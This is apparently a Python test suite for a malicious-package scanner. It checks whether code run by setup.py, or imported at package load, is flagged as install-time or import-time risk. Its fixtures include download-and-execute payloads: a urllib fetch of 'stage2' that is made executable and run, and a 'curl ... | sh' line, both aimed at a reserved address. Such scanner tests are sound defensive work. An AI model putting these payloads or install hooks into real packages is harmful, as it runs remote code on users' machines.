"""A file is weighed by where it runs, not by the folder it sits in: what setup.py executes
(``exec(open(...).read())``, ``runpy.run_path``, a local import) is install-time code, and a
module under ``tools/`` or ``scripts/`` that the package imports is package code. Inert
payloads, reserved addresses only."""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel

PAYLOAD = b"""import os, urllib.request
data = urllib.request.urlopen("http://198.51.100.7/stage2").read()
open(os.path.expanduser("~/.cache/stage2.bin"), "wb").write(data)
os.system("chmod +x ~/.cache/stage2.bin && ~/.cache/stage2.bin")
"""


def scan(path):
    return scan_artifact(open_artifact(path))


def high(result) -> bool:
    return result.risk.level in ("high", "critical")


def places(result, path: str) -> set[str]:
    return {h.place for h in result.findings if h.path == path}


def test_a_tools_file_that_setup_py_execs_is_install_time_code(tmp_path):
    for runner in (
        b"exec(open('tools/enc.py').read())\n",
        b"import os\nexec(compile(open(os.path.join(os.path.dirname(__file__), 'tools', 'enc.py')).read(), 'enc', 'exec'))\n",
        b"import runpy\nrunpy.run_path('tools/enc.py')\n",
    ):
        setup = (
            b"from setuptools import setup\n" + runner + b"setup(name='quietpkg', version='1.0')\n"
        )
        path = make_sdist(
            tmp_path, name="quietpkg", files={"setup.py": setup, "tools/enc.py": PAYLOAD}
        )
        result = scan(path)
        assert "install" in places(result, "tools/enc.py"), runner
        assert any(
            t.id == "place.install_time" and any(s.path == "tools/enc.py" for s in t.steps)
            for t in result.threats
        ), runner
        assert high(result)


def test_a_module_setup_py_imports_from_scripts_runs_at_install(tmp_path):
    setup = (
        b"from setuptools import setup\nfrom scripts import post_install\nsetup(name='quietpkg')\n"
    )
    path = make_sdist(
        tmp_path,
        name="quietpkg",
        files={"setup.py": setup, "scripts/__init__.py": b"", "scripts/post_install.py": PAYLOAD},
    )
    result = scan(path)
    assert places(result, "scripts/post_install.py") & {"install", "import"}
    assert high(result)


def test_a_helper_setup_py_imports_keeps_its_functions_as_functions(tmp_path):
    """versioneer.py: setup.py imports it and it calls git in a function; that is no threat."""
    vers = b"import subprocess\ndef get_version():\n    return subprocess.check_output(['git', 'describe'])\n"
    setup = b"import versioneer\nfrom setuptools import setup\nsetup(name='quietpkg', version=versioneer.get_version())\n"
    path = make_sdist(tmp_path, name="quietpkg", files={"setup.py": setup, "versioneer.py": vers})
    assert not high(scan(path))


def test_a_tools_module_the_package_imports_is_not_lowered(tmp_path):
    files = {
        "quietpkg/__init__.py": b"from .tools import helper\n",
        "quietpkg/tools/__init__.py": b"",
        "quietpkg/tools/helper.py": PAYLOAD,
    }
    result = scan(make_wheel(tmp_path, name="quietpkg", files=files))
    assert "import" in places(result, "quietpkg/tools/helper.py")
    assert high(result)


def test_a_tools_script_nothing_runs_stays_lowered(tmp_path):
    """The same code in a developer script that neither install nor import runs."""
    script = b"import subprocess\nsubprocess.check_call(['git', 'tag', 'v1.0'])\n"
    path = make_sdist(tmp_path, name="quietpkg", files={"tools/release.py": script})
    result = scan(path)
    assert places(result, "tools/release.py") <= {""}
    assert not high(result)


def test_a_version_file_execd_by_setup_py_is_no_alarm(tmp_path):
    setup = b"from setuptools import setup\nexec(open('quietpkg/_version.py').read())\nsetup(name='quietpkg', version=__version__)\n"
    path = make_sdist(
        tmp_path,
        name="quietpkg",
        files={"setup.py": setup, "quietpkg/_version.py": b"__version__ = '1.0'\n"},
    )
    assert not high(scan(path))


def test_each_way_of_importing_a_tools_module_makes_it_package_code(tmp_path):
    """An import is resolved only when one of its names could be a lowered file: each
    spelling below names the helper (or its folder) somewhere and still promotes it, in a
    flat and in a src/ layout; an unrelated import beside it changes nothing."""
    spellings = [
        b"import os\nimport quietpkg.tools.helper\n",
        b"import json, quietpkg.tools.helper as h\n",
        b"from quietpkg.tools import helper\n",
        b"from quietpkg.tools.helper import run\n",
        b"from .tools import (helper, other)\n",
        b"from . import tools\n",
    ]
    for i, init in enumerate(spellings):
        for layout in ("", "src/"):
            folder = tmp_path / f"{i}{layout.strip('/')}"
            folder.mkdir()
            files = {
                f"{layout}quietpkg/__init__.py": init,
                f"{layout}quietpkg/tools/__init__.py": b"from .helper import run\n",
                f"{layout}quietpkg/tools/helper.py": PAYLOAD + b"def run():\n    pass\n",
            }
            result = scan(make_sdist(folder, name="quietpkg", files=files))
            where = f"{layout}quietpkg/tools/helper.py"
            assert "import" in places(result, where), (init, layout)


def test_a_function_another_module_calls_on_import_runs_at_import(tmp_path):
    """``from .core import run`` then ``run()`` at column 0: core's ``run`` runs on import.
    Without the call (only the import, or the call inside a function) it stays a library
    function."""
    body = b"import os\n\ndef run():\n    os.system('curl http://198.51.100.7/s | sh')\n"
    inits = {
        b"from .core import run\nrun()\n": True,
        b"from .core import run\n": False,
        b"from .core import run\n\ndef main():\n    run()\n": False,
    }
    for i, (init, on_import) in enumerate(inits.items()):
        folder = tmp_path / str(i)
        folder.mkdir()
        files = {"quietpkg/__init__.py": init, "quietpkg/core.py": body}
        result = scan(make_wheel(folder, name="quietpkg", files=files))
        assert ("import" in places(result, "quietpkg/core.py")) is on_import, init
